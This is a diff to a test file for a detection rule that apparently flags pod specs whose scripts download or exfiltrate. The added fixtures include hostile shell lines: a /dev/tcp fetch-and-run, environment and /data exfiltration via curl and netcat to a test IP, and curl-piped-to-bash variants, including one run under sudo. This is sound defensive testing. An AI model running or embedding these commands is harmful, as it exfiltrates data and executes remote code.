@@ -32,11 +32,30 @@ describe('rule download-in-spec', () => {
         },
       ],
       ['what is piped away', { request: pod(script('env | curl -s -X POST --data-binary @- http://203.0.113.9/')) }],
+      [
+        'by the shell itself, where there is no curl',
+        {
+          request: pod(
+            script('exec 3<>/dev/tcp/203.0.113.9/80; echo -e "GET /k HTTP/1.0\\r\\n" >&3; cat <&3 > /tmp/k; sh /tmp/k'),
+          ),
+        },
+      ],
+      ['what netcat sends', { request: pod(script('echo "$(tar cz /data | nc 203.0.113.9 9000)"')) }],
       ['refused', { code: 7 }, { severity: 'medium', confidence: 0.55 }],
       ['a named host', { request: pod(script('curl -fsSL https://get.example.com/install.sh | bash')) }, FROM_NAME],
       [
         'the same, substituted',
         { request: pod(script('bash -c "$(curl -fsSL https://get.example.com/y)"')) },
+        FROM_NAME,
+      ],
+      [
+        'the same, as somebody else',
+        { request: pod(script('curl -sL https://get.example.com/y | sudo -E bash -')) },
+        FROM_NAME,
+      ],
+      [
+        'the same, read by the shell',
+        { request: pod(script('source <(curl -sL https://get.example.com/y)')) },
         FROM_NAME,
       ],
       ['the same, as a file', { request: pod(script('bash <(curl -fsSL https://get.example.com/y)')) }, FROM_NAME],
@@ -50,6 +69,16 @@ describe('rule download-in-spec', () => {
       ],
     ],
     misses: [
+      [
+        'the health of the own container, by the shell itself',
+        {
+          request: pod(script('exec 3<>/dev/tcp/127.0.0.1/9000; printf "GET /live HTTP/1.1\\r\\n" >&3; cat <&3 > /h')),
+        },
+      ],
+      [
+        'a port that is waited for',
+        { request: pod(script('until echo > /dev/tcp/203.0.113.9/5432; do sleep 2; done')) },
+      ],
       [
         'a file from a named host',
         { request: pod(script('curl -fsSLo /plugins/a.jar https://repo.example.com/a.jar')) },
